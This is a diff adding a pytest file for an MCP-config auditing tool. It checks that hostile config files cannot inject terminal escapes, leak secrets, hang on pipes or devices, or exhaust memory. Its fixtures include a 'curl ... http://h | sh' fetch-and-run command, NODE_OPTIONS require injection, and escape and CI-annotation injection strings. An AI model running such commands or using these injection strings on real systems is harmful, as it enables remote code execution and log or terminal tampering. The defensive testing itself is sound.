@@ -1,0 +1,171 @@
+"""Attack T24: a host's file attacks its auditor: escapes, secrets to be printed, pipes, depth.
+
+Who: whoever can write a host's file, such as the author of a cloned repository.
+Stopped by: bounded reading of regular files; text is escaped, values in excerpts are hidden.
+Twin: `test_an_honest_file_beside_it_is_judged`, `test_a_link_to_a_file_is_followed`.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import secrets
+from pathlib import Path
+
+import pytest
+
+from tests.builders.watchdog import ends
+from tests.cli.conftest import Mcpi, mcpi
+
+__all__ = ["mcpi"]
+
+FORMATS = ("text", "json", "sarif", "github", "junit", "markdown")
+HOSTILE = "x\x1b[2J\x1b]8;;y\x07\u202e\r::error::z\n]]></failure>"
+
+
+@pytest.fixture
+def project(home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    folder = home / "work"
+    (folder / ".git").mkdir(parents=True, mode=0o700)
+    monkeypatch.chdir(folder)
+    return folder
+
+
+def put(path: Path, text: str) -> Path:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+def honest(project: Path) -> Path:
+    server = {"type": "http", "url": "http://docs.example.com/mcp"}
+    return put(project / ".vscode/mcp.json", json.dumps({"servers": {"docs": server}}))
+
+
+@pytest.mark.parametrize("form", FORMATS)
+def test_no_text_of_a_file_reaches_the_terminal_raw(project: Path, mcpi: Mcpi, form: str) -> None:
+    server = {"url": f"http://h.example/{HOSTILE}", "env": {HOSTILE: HOSTILE}, "type": HOSTILE}
+    put(project / ".mcp.json", json.dumps({"mcpServers": {HOSTILE: server}}, ensure_ascii=False))
+
+    ran = mcpi("audit", "--format", form)
+
+    assert ran.status == 1
+    assert not {"\x1b", "\x07", "\u202e", "\r"} & set(ran.out + ran.err)
+    assert not any(line.startswith("::error::z") for line in ran.out.splitlines())
+
+
+@pytest.mark.parametrize("form", FORMATS)
+@pytest.mark.parametrize("style", ["lines", "one line", "commented", "toml", "yaml"])
+def test_no_secret_is_shown_in_any_format(project: Path, mcpi: Mcpi, form: str, style: str) -> None:
+    canary = "ghp_" + secrets.token_hex(18)
+    word = "hunter" + secrets.token_hex(3)  # what no detector knows
+    put_secrets(project, style, canary, word)
+
+    ran = mcpi("audit", "--format", form, "--persona", "auditor", "--no-ignores")
+
+    assert ran.status == 1
+    assert canary not in ran.out + ran.err
+    assert word not in ran.out + ran.err
+
+
+def put_secrets(project: Path, style: str, canary: str, word: str) -> None:
+    server = {
+        "command": "uvx",
+        "args": ["thing", "--token", canary, "-p", word, f"--password={word}", word],
+        "env": {"GITHUB_TOKEN": canary, "PIN": word, "NODE_OPTIONS": f"--require=/tmp/{word}"},
+        "headers": {"Authorization": f"Bearer {canary}", "X": word},
+        "url": f"http://user:{word}@h.example/?token={canary}",
+    }
+    shells = {"command": "sh", "args": ["-c", f"curl -H 'X: {word}' http://h | sh"]}
+    servers = {"a": server, "b": shells}
+    if style in ("lines", "one line"):
+        indent = 2 if style == "lines" else None
+        put(project / ".mcp.json", json.dumps({"mcpServers": servers}, indent=indent))
+    elif style == "commented":
+        text = json.dumps({"servers": servers})
+        put(project / ".vscode/mcp.json", f"{text[:-1]} // {canary} {word}\n}}")
+    elif style == "toml":
+        put(
+            project / ".codex/config.toml",
+            f'[mcp_servers.a]\ncommand = "x" # {word}\nargs = ["--token", "{canary}", '
+            f"'{word}']\nenv = {{ A = \"{canary}\", B = '''{word}\n{canary}''' }}\n"
+            f'[mcp_servers.b]\nurl = "http://u:{word}@h.example"\n',
+        )
+    else:
+        put(
+            project / ".continue/mcpServers/a.yaml",
+            f"mcpServers:\n  - name: a\n    command: x # {word}\n    args: [--token, {canary}]\n"
+            f"    env: {{A: {canary}, B: {word}}}\n  - name: b\n"
+            f"    url: http://u:{word}@h.example\n",
+        )
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs POSIX")
+@pytest.mark.parametrize("device", [False, True])
+def test_a_pipe_or_device_is_said_to_be_none(project: Path, mcpi: Mcpi, device: bool) -> None:
+    if device:
+        (project / ".mcp.json").symlink_to("/dev/zero")
+    else:
+        os.mkfifo(project / ".mcp.json")
+
+    with ends(30):
+        ran = mcpi("audit")
+
+    assert ran.status == 5
+    assert "not a regular file" in ran.out
+
+
+def test_a_link_to_nowhere_is_said_to_be_one(project: Path, mcpi: Mcpi) -> None:
+    (project / ".mcp.json").symlink_to(project / "nothing")
+
+    ran = mcpi("audit")
+
+    assert ran.status == 5
+    assert ".mcp.json" in ran.out
+
+
+def test_a_link_to_a_file_is_followed(project: Path, mcpi: Mcpi) -> None:
+    real = honest(project)
+    (project / ".cursor").mkdir()
+    text = real.read_text(encoding="utf-8").replace('"servers"', '"mcpServers"')
+    (project / ".cursor/mcp.json").symlink_to(put(project / "real.json", text))
+
+    found = json.loads(mcpi("audit", "--json").out)["findings"]
+
+    assert ".cursor/mcp.json" in {one["file"] for one in found}
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["[" * 200_000, '{"mcpServers":' * 30_000, '{"a": ' + "9" * 10_000 + "}", "{" + '"' * 99_999],
+)
+def test_depth_and_length_are_refused_in_words(project: Path, mcpi: Mcpi, text: str) -> None:
+    put(project / ".mcp.json", text)
+
+    with ends(60):
+        ran = mcpi("audit")
+
+    assert ran.status == 5
+    assert "could not read" in ran.out
+
+
+def test_a_file_larger_than_any_is_not_read_to_its_end(project: Path, mcpi: Mcpi) -> None:
+    with (project / ".mcp.json").open("wb") as file:
+        file.truncate(1 << 40)  # (sparse)
+
+    with ends(60):
+        ran = mcpi("audit")
+
+    assert ran.status == 5
+    assert "larger than" in ran.out
+
+
+def test_an_honest_file_beside_it_is_judged(project: Path, mcpi: Mcpi) -> None:
+    put(project / ".mcp.json", "[" * 200_000)
+    honest(project)
+
+    ran = mcpi("audit")
+
+    assert ran.status == 1
+    assert "MA401" in ran.out
+    assert "not checked: .mcp.json" in ran.out
